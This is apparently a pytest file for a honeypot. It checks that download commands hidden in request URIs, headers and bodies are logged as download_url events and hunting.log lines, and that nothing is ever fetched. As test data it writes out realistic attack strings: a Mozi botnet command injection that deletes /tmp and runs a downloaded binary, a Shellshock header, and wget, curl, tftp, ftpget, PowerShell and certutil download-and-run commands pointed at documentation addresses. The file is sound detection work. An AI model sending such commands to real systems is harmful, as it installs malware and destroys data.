"""test_http_hunting.py - download commands in the URI, headers and body become download_url events
(exact URL, tool) and hunting.log lines in WOWHoneypot's format; nothing is ever fetched."""
import http.server
import threading
import time

import pytest

from conftest import (HUNT_RE, build_request, event_with_payload, events_where, read_lines,
                      request, wait_until)

MOZI = "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.10/Mozi.m;chmod+777+Mozi.m;/tmp/Mozi.m+jaws"

# name -> (method, target, extra headers, body, expected {(url, tool)})
CASES = {
    "mozi_uri": ("GET", MOZI, [], None, {("http://192.0.2.10/Mozi.m", "wget")}),
    "wget_header": ("GET", "/", [("User-Agent", "() { :;}; /bin/bash -c 'wget http://192.0.2.11/"
                                  "x.sh -O /tmp/x.sh'")], None,
                    {("http://192.0.2.11/x.sh", "wget")}),
    "curl_body": ("POST", "/cgi-bin/luci", [], "cmd=cd /tmp; curl -O https://192.0.2.12/b.arm7",
                  {("https://192.0.2.12/b.arm7", "curl")}),
    "tftp": ("POST", "/", [], "c=cd /tmp && tftp -g -r mips.bin 192.0.2.20; sh mips.bin",
             {("tftp://192.0.2.20/mips.bin", "tftp")}),
    "ftpget": ("POST", "/", [], "c=ftpget -v -u anonymous -p anonymous -P 2121 192.0.2.21 "
               "local.sh bins.sh; sh local.sh", {("ftp://192.0.2.21:2121/bins.sh", "ftpget")}),
    "powershell_iwr": ("POST", "/", [], "powershell -nop -c \"IWR -Uri http://192.0.2.30/p.ps1 "
                       "-OutFile p.ps1\"", {("http://192.0.2.30/p.ps1", "powershell")}),
    "certutil": ("GET", "/?c=certutil%20-urlcache%20-split%20-f%20http://192.0.2.31/c.exe%20c.exe",
                 [], None, {("http://192.0.2.31/c.exe", "certutil")}),
    "percent_encoded": ("GET", "/?x=wget%20http%3A%2F%2F192.0.2.13%2Fp.sh", [], None,
                        {("http://192.0.2.13/p.sh", "wget")}),
    "query_kept_whole": ("POST", "/", [], "cmd=wget http://192.0.2.40/x.php?a=1&b=2 -O /tmp/x",
                         {("http://192.0.2.40/x.php?a=1&b=2", "wget")}),
    "two_urls": ("POST", "/", [], "wget http://192.0.2.50/a; curl -O https://192.0.2.51/b",
                 {("http://192.0.2.50/a", "wget"), ("https://192.0.2.51/b", "curl")}),
    "none": ("GET", "/index.html?q=http://192.0.2.60/not-a-download", [], None, set()),
}


def hunted(h, req_event):
    return events_where(h, "download_url", lambda e: e["fields"]["request"] == req_event["id"])


@pytest.mark.parametrize("name", sorted(CASES))
def test_download_urls(module_hanipo, name):
    h = module_hanipo
    method, target, extra, body, want = CASES[name]
    raw = build_request(method, target, [*extra, ("X-Case", name)], body)
    resp = request(h.port, raw)
    assert resp.status in (200, 201)
    ev = event_with_payload(h, raw)
    if want:
        wait_until(lambda: len(hunted(h, ev)) >= len(want), what="download_url events")
    else:
        time.sleep(0.2)
    got = hunted(h, ev)
    assert {(e["fields"]["url"], e["fields"]["tool"]) for e in got} == want
    assert len(got) == len(want)
    for e in got:
        assert e["session"] == ev["session"]
        assert e["src_ip"] == "127.0.0.1"
        assert e["payload"] is None


def test_hunting_log_lines(make_hanipo):
    h = make_hanipo()
    raw = build_request("GET", MOZI)
    request(h.port, raw)
    raw2 = build_request("POST", "/", [], CASES["two_urls"][3])
    request(h.port, raw2)
    lines = wait_until(lambda: (lambda ls: ls if len(ls) >= 3 else None)(read_lines(h.hunting_log)),
                       what="3 hunting.log lines")
    assert len(lines) == 3
    parsed = [HUNT_RE.match(ln) for ln in lines]
    assert all(parsed), lines
    assert all(m.group(2) == "+0900" and m.group(3) == "127.0.0.1" for m in parsed)
    assert [m.group(4) for m in parsed] == ["http://192.0.2.10/Mozi.m", "http://192.0.2.50/a",
                                            "https://192.0.2.51/b"]
    # The timestamp is JST: 9 hours ahead of UTC.
    ts = time.strptime(parsed[0].group(1), "%Y-%m-%d %H:%M:%S")
    jst_now = time.gmtime(time.time() + 9 * 3600)
    assert abs(time.mktime(ts) - time.mktime(jst_now)) < 120


def test_hunting_log_masked(make_hanipo):
    h = make_hanipo("log.ip_masking=true")
    request(h.port, build_request("GET", MOZI))
    lines = wait_until(lambda: read_lines(h.hunting_log), what="hunting.log line")
    assert HUNT_RE.match(lines[0]).group(3) == "0.0.0.0"
    assert "127.0.0.1" not in "\n".join(lines)


def test_nothing_is_ever_fetched(make_hanipo):
    hits = []
    conns = []

    class Server(http.server.HTTPServer):
        def verify_request(self, req, addr):
            conns.append(addr)
            return True

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"payload")

        def log_message(self, *a):
            pass

    srv = Server(("127.0.0.1", 0), Handler)
    port = srv.server_address[1]
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    try:
        h = make_hanipo()
        url = f"http://127.0.0.1:{port}/x"
        raws = [build_request("GET", f"/?c=wget+{url};sh+x"),
                build_request("POST", "/", [("User-Agent", f"curl {url}")], f"cmd=curl -O {url}"),
                build_request("POST", "/", [], f"c=tftp -g -r x 127.0.0.1 {port}")]
        for raw in raws:
            request(h.port, raw)
        wait_until(lambda: any(e["fields"]["url"] == url
                               for e in events_where(h, "download_url")), what="hunted URL")
        time.sleep(1.0)
        assert hits == [], f"hanipo fetched {hits}"
        assert conns == [], f"hanipo connected to the URL's server: {conns}"
    finally:
        srv.shutdown()
        srv.server_close()
